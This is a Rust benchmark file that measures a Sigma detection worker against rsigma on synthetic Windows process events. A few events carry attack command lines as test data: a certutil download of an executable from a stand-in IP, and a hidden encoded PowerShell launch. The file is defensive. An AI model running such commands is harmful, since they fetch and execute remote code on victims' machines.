@@ -1,0 +1,178 @@
+//! `detect.sigma` (memory): N process-start events through the detection
+//! worker (a consumer group on the bus, the mapping, rsigma, each finding
+//! published back) with every rule of `--rules` loaded, against rsigma
+//! evaluating the same events, already mapped, in a loop, in the same run.
+
+use std::sync::atomic::Ordering;
+use std::time::{Duration, Instant};
+
+use chrono::Utc;
+use futures::future::BoxFuture;
+use secbus::{Event, EventType, Publisher, TenantId};
+use secbus_detect::{DetectionConfig, DetectionWorker, Detector, Mapping, RuleSet};
+use serde_json::json;
+
+use super::payload;
+use super::scenario::{Context, Report, Target, round6};
+
+pub(crate) const NAME: &str = "detect.sigma";
+
+/// How long the worker may take past the last publish before the run fails.
+const DRAIN_TIMEOUT: Duration = Duration::from_secs(600);
+
+pub(crate) fn applies(engine: &str) -> bool {
+    engine == "memory"
+}
+
+pub(crate) fn run(ctx: &Context) -> BoxFuture<'_, anyhow::Result<Report>> {
+    Box::pin(measure(ctx))
+}
+
+/// Process starts of a Windows fleet: ordinary ones, and one in 25 that rules
+/// of the SigmaHQ corpus look for (an encoded PowerShell, a certutil download).
+fn process_events(n: usize) -> Vec<Event> {
+    let ty = EventType::new("endpoint.process.created").expect("a valid type literal");
+    let tenant = TenantId::new(payload::TENANT).expect("a valid tenant literal");
+    let shapes = [
+        (
+            "C:\\Windows\\explorer.exe",
+            "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
+            "C:\\Windows\\System32\\svchost.exe",
+        ),
+        (
+            "C:\\Windows\\explorer.exe",
+            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
+            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        ),
+        (
+            "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
+            "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgA",
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        ),
+        (
+            "C:\\Windows\\System32\\cmd.exe",
+            "certutil.exe -urlcache -split -f http://203.0.113.50/a.exe a.exe",
+            "C:\\Windows\\System32\\certutil.exe",
+        ),
+        (
+            "C:\\Windows\\System32\\cmd.exe",
+            "whoami /all",
+            "C:\\Windows\\System32\\whoami.exe",
+        ),
+        (
+            "C:\\Windows\\explorer.exe",
+            "notepad.exe C:\\Users\\bob\\notes.txt",
+            "C:\\Windows\\System32\\notepad.exe",
+        ),
+    ];
+    let time = Utc::now();
+    (0..n)
+        .map(|i| {
+            let (parent, command_line, image) = match i % 50 {
+                0 => shapes[2],
+                25 => shapes[3],
+                k => [shapes[0], shapes[1], shapes[4], shapes[5]][k % 4],
+            };
+            Event::builder(ty.clone(), tenant.clone())
+                .source("edr/bench")
+                .time(time)
+                .data(json!({
+                    "host": format!("ws-{:04}", i % 500),
+                    "os": "windows",
+                    "image": image,
+                    "command_line": command_line,
+                    "parent_image": parent,
+                    "user": format!("ACME\\\\user{}", i % 97),
+                    "process_id": 1000 + i % 60000,
+                    "integrity_level": "medium",
+                }))
+                .build()
+                .expect("a valid bench event")
+        })
+        .collect()
+}
+
+async fn measure(ctx: &Context) -> anyhow::Result<Report> {
+    anyhow::ensure!(
+        !ctx.rules.is_empty(),
+        "detect.sigma needs --rules DIR (e.g. a SigmaHQ checkout)"
+    );
+    let n = ctx.events;
+    let events = process_events(n);
+    let rules = RuleSet::load(&ctx.rules).map_err(|e| anyhow::anyhow!("{e}"))?;
+    anyhow::ensure!(rules.loaded > 0, "no rule loads from {:?}", ctx.rules);
+
+    // Raw: rsigma on the same events, mapped before timing.
+    let mut raw_detector = Detector::new(&rules, Mapping::shipped(), Default::default())
+        .map_err(|e| anyhow::anyhow!("{e}"))?;
+    let mapped: Vec<(serde_json::Value, i64)> = events
+        .iter()
+        .map(|e| {
+            (
+                raw_detector.sigma_event(e),
+                e.time.map_or(0, |t| t.timestamp()),
+            )
+        })
+        .collect();
+    let start = Instant::now();
+    let mut raw_matches = 0usize;
+    for (sigma, at) in &mapped {
+        raw_matches += raw_detector.process_sigma(sigma, *at).len();
+    }
+    let raw_wall = start.elapsed();
+    drop(raw_detector);
+
+    // Ours: the worker on the bus; timed from the first publish to the last
+    // event evaluated.
+    let bus = ctx.connect().await?;
+    let detector = Detector::new(&rules, Mapping::shipped(), Default::default())
+        .map_err(|e| anyhow::anyhow!("{e}"))?;
+    let mut config = DetectionConfig::new(ctx.rules.clone(), vec![payload::TENANT.to_owned()]);
+    config.replay_on_start = false;
+    let worker = DetectionWorker::start(&bus, &config, detector)
+        .await
+        .map_err(|e| anyhow::anyhow!("{e}"))?;
+    let stats = worker.stats();
+    let start = Instant::now();
+    for chunk in events.chunks(1000) {
+        bus.publish_batch(chunk.to_vec()).await?;
+    }
+    while stats.events.load(Ordering::Relaxed) < n as u64 {
+        anyhow::ensure!(
+            start.elapsed() < DRAIN_TIMEOUT,
+            "the worker did not keep up within {DRAIN_TIMEOUT:?}"
+        );
+        tokio::time::sleep(Duration::from_millis(1)).await;
+    }
+    let ours_wall = start.elapsed();
+    let findings = stats.findings.load(Ordering::Relaxed);
+    worker.stop().await.map_err(|e| anyhow::anyhow!("{e}"))?;
+    bus.close().await?;
+    anyhow::ensure!(
+        findings as usize == raw_matches,
+        "the worker published {findings} findings, rsigma matched {raw_matches} times"
+    );
+
+    let report = Report::new(
+        NAME,
+        &ctx.engine,
+        n as u64,
+        n as f64 / ours_wall.as_secs_f64(),
+        Some(n as f64 / raw_wall.as_secs_f64()),
+    )
+    .field("rules_loaded", rules.loaded)
+    .field("rules_failed", rules.failures.len())
+    .field("matches", raw_matches)
+    .field("wall_s", round6(ours_wall.as_secs_f64()))
+    .field("raw_wall_s", round6(raw_wall.as_secs_f64()))
+    .field(
+        "raw_baseline",
+        "rsigma CorrelationEngine::process_event_at over the events already mapped, one thread",
+    )
+    .field(
+        "ours_method",
+        "publish_batch of 1,000 to the memory bus; the detection worker's group delivers, maps, \
+         evaluates, publishes each finding and acks",
+    );
+    Ok(report.targets([Target::at_least("ratio", 0.9)]))
+}
